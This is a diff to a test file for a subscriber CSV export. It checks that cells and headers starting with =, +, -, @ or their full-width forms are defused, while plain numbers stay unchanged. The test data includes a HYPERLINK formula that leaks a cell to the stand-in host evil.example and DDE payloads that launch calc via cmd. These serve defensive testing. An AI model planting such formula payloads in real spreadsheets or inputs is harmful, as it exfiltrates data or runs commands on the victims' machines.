@@ -36,6 +36,22 @@ def test_a_list_exports_exactly_its_members_with_every_column(app):
     assert rows[0]["name"] == "-42" and rows[0]["city"] == "'+1 555"  # a plain number stays a number
 
 
+def test_every_cell_a_spreadsheet_opens_is_defused_header_included(app):
+    """OWASP's rule: =, +, -, @, tab, CR and the full-width ＝＋－＠ start a formula; plain numbers stay."""
+    key = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with app.app_context():
+        subscribers.create("a@example.com", name="\uff1dcmd|' /C calc'!A0",
+                           attributes={key: "+cmd|' /C calc'!A0", "@sum": "-5", "\uff20x": "\uff0b1", "n": -5})
+        text = "".join(exports.subscribers_csv(subscribers.make_filters()))
+        reference = "".join(exports._python_chunks(subscribers.make_filters(), exports.attribute_keys(
+            subscribers.make_filters()), batch=10))
+    header, row = csv.reader(io.StringIO(text))
+    assert header[5:] == ["'" + key, "'@sum", "n", "'\uff20x"]
+    assert row[1] == "'\uff1dcmd|' /C calc'!A0"
+    assert row[5:] == ["'+cmd|' /C calc'!A0", "-5", "-5", "'\uff0b1"]  # "-5" is a number, not a formula
+    assert text.endswith(reference)  # the SQL path (PostgreSQL) spells the rows the same
+
+
 def test_a_search_exports_its_matches_only(app):
     with app.app_context():
         for i in range(5):
@@ -46,13 +62,13 @@ def test_a_search_exports_its_matches_only(app):
 
 TRICKY_NAMES = ["Ann", "=HYPERLINK(\"x\")", "-42", "+1.5", "-1.", "-٤٢", "+7\n", "-7\n\n", "@home", "\tTab", "\rCR",
                 "a,b", 'say "hi"', "two\nlines", "cr\rhere", "", " spaced ", "Zoë; \"Ö\"", "-", "+", "=1+1", "1.5",
-                "'quoted'", "\\.", "end\\"]
+                "'quoted'", "\\.", "end\\", "\uff1d1+1", "\uff0bx", "\uff0d1", "\uff20me", "-05", "+0.50", "5-"]
 TRICKY_ATTRIBUTES = [
     {"city": "Oslo", "age": 41, "vip": True}, {"age": -3, "vip": False, "note": None},
     {"nested": {"b": [1, "two", None, True], "a": "x\ty\u0001\"\\/é"}, "empty": {}, "list": []},
     {"email": "shadow@example.com", "name": "=cmd", "big": 123456789012345678901234567890},
     {"city": "+49 30", "phone": "-1 555", "zip": "=01"}, {"multi": "line\nbreak", "comma": "a,b", "q": 'x"y'},
-    {"ünïcode": "日本語", "emoji": "🙂", "formula": "@SUM(A1)"}, {},
+    {"ünïcode": "日本語", "emoji": "🙂", "formula": "@SUM(A1)"}, {"=key": "\uff0d2", "-3": "-3"}, {},
 ]
 
 
